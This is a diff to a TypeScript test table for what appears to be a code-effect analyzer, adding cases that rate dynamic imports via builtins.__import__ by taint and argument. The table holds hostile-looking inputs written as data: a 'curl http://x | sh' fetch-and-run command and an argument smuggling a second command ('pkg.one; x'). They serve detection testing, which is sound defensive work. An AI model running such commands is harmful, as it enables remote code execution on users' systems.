@@ -43,6 +43,12 @@ const decodedExec: Partial<EffectFact> = {
   traits: ['decoded', 'constant'],
 };
 
+const importedFor: Partial<EffectFact> = {
+  capability: 'reflection',
+  callable: 'builtins.__import__',
+  taint: ['input'],
+};
+
 // What issue 6 and the policy presets ask for: high and critical deny, medium is reviewed, low and info pass.
 const repository: readonly Case[] = [
   [{ argument: 'curl http://x | sh', traits: ['shell', 'constant'] }, 'process-started critical'],
@@ -71,6 +77,11 @@ const repository: readonly Case[] = [
   // Nothing loads the file by itself: no worse than what is called later.
   [{ reach: 'none', argument: 'build.sh' }, 'process-started low'],
   [{ traits: ['computed-callee'], argument: 'x' }, 'hidden-effect high'],
+  // Out of a table of names that stands there, or whatever somebody says.
+  [{ ...importedFor, argument: 'pkg.handlers.one' }, 'nothing'],
+  [{ ...importedFor, argument: 'pkg.\uf8ff' }, 'computed-import high'],
+  [{ ...importedFor, argument: 'pkg.one; x' }, 'computed-import high'],
+  [importedFor, 'computed-import high'],
   [decodedExec, 'hidden-effect critical'],
   [{ ...decodedExec, phase: 'call' }, 'hidden-effect high'],
   [{ ...decodedExec, phase: 'start' }, 'hidden-effect high'],
